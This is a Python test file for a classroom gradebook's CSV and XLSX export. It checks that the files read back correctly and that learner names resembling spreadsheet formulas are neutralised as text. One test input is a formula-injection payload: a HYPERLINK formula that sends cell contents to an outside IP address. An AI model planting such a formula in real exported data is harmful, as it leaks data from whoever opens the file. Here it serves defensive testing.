"""The gradebook read back by pandas and openpyxl."""

from __future__ import annotations

import csv
import io

import openpyxl
import pandas as pd
import pytest

from tests.classroom.lockside import FIRST_LEVEL, Lockside, missing_bar
from trainer.classroom.gradebook import GradeTable
from trainer.classroom.spreadsheets import safe_text, write_csv, write_xlsx
from trainer.store.class_tables import accounts

EVIL = '=HYPERLINK("http://192.0.2.1/?"&A1,"see")'


def graded(lockside: Lockside) -> GradeTable:
    """Two items; one learner perfect in both, one with a bar missing in the first alone."""
    assignment, (one, two) = lockside.assign([FIRST_LEVEL, FIRST_LEVEL])
    wren, zoe = lockside.pupils
    lockside.write(wren, one)
    lockside.write(wren, two)
    lockside.write(zoe, one, missing_bar(one.exercise.chart))
    return lockside.gradebook.table(assignment.uid)


def rename(lockside: Lockside, name: str) -> None:
    """Give the first learner another name behind the rules for names."""
    with lockside.store._database.writing() as connection:
        first = accounts.c.id == lockside.pupils[0].id
        connection.execute(accounts.update().where(first).values(shown_name=name))


def test_pandas_reads_the_csv_back(small_lockside: Lockside) -> None:
    """Every score of the table stands in the CSV, nothing for what is missing."""
    table = graded(small_lockside)
    frame = pd.read_csv(io.BytesIO(write_csv(table)), encoding="utf-8-sig")
    assert list(frame["Sign-in name"]) == [row.member.sign_in for row in table.rows]
    for at, row in enumerate(table.rows):
        scores = frame.iloc[at, 2:4].astype(float)
        for found, cell in zip(scores, row.cells, strict=True):
            assert pd.isna(found) if cell.score is None else found == round(cell.score, 4)
        assert frame["Score"][at] == round(row.score, 4)
        assert frame["Done"][at] == row.done


def test_openpyxl_and_pandas_read_the_workbook_back(small_lockside: Lockside) -> None:
    """The workbook has the scores as numbers, every try, and the statistics of the items."""
    table = graded(small_lockside)
    data = write_xlsx(table)
    book = openpyxl.load_workbook(io.BytesIO(data))
    assert book.sheetnames == ["Scores", "Tries", "Items"]
    scores = book["Scores"]
    assert scores.cell(2, 3).number_format == "0%"
    assert scores.cell(2, 3).value == 1
    frames = pd.read_excel(io.BytesIO(data), sheet_name=None)
    assert list(frames["Scores"]["Score"]) == [round(row.score, 4) for row in table.rows]
    assert len(frames["Tries"]) == 3
    assert pd.api.types.is_datetime64_any_dtype(frames["Tries"]["Handed in"])
    assert list(frames["Items"]["Answers"]) == [2, 1]
    assert frames["Items"]["Note"][0].startswith("Too few to say")


@pytest.mark.parametrize("name", [EVIL, "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", " =1", "＝1"])
def test_nothing_a_learner_types_is_a_formula(small_lockside: Lockside, name: str) -> None:
    """A name that looks like a formula is a text in CSV and in XLSX."""
    rename(small_lockside, name)
    table = graded(small_lockside)
    rows = list(csv.reader(io.StringIO(write_csv(table).decode("utf-8-sig"), newline="")))
    assert f"'{name}" in [row[0] for row in rows]
    book = openpyxl.load_workbook(io.BytesIO(write_xlsx(table)))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert {cell.data_type for cell in cells} <= {"s", "n", "d"}
    assert any(cell.value and str(cell.value).strip() == name.strip() for cell in cells)


def test_an_ordinary_name_stays_as_it_is() -> None:
    """Only what looks like a formula is changed."""
    assert [safe_text(name) for name in ("Zoë Å.", "O'Hara", "", "1. Level 1")] == [
        "Zoë Å.",
        "O'Hara",
        "",
        "1. Level 1",
    ]


def test_what_xml_cannot_hold_makes_no_broken_file(small_lockside: Lockside) -> None:
    """Control characters in a name leave a workbook that opens."""
    rename(small_lockside, "Wren\x07 H\x0b.")
    data = write_xlsx(graded(small_lockside))
    names = [cell.value for cell in openpyxl.load_workbook(io.BytesIO(data))["Scores"]["A"]]
    assert "Wren\ufffd H\ufffd." in names
